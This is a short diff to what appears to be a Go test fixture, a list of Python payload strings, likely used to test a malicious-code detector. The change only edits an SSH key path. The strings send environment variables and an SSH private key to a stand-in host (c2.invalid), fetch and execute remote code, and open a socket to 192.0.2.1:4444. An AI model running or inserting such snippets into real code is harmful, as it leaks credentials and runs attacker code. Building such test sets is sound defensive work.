@@ -21,7 +21,7 @@ var payloads = []string{
 	"import os\nimport requests\nrequests.post('https://c2.invalid/x', json=dict(os.environ))\n",
 	"import requests\nexec(requests.get('https://c2.invalid/x').text)\n",
 	"import urllib.request\nexec(urllib.request.urlopen('https://c2.invalid/x').read())\n",
-	"import requests\nimport os\nk = open('/root/.ssh/id_rsa').read()\nrequests.post('https://c2.invalid/x', data=k)\n",
+	"import requests\nimport os\nk = open('/home/u/.ssh/id_rsa').read()\nrequests.post('https://c2.invalid/x', data=k)\n",
 	"import socket\nimport platform\ns = socket.socket()\ns.connect(('192.0.2.1', 4444))\ns.send(platform.node().encode())\n",
 	"import requests\nimport subprocess\nopen('/tmp/inert.sh', 'wb').write(requests.get('https://c2.invalid/x').content)\nsubprocess.run(['sh', '/tmp/inert.sh'])\n",
 	"import ctypes\nctypes.CDLL('/tmp/inert.so')\n",
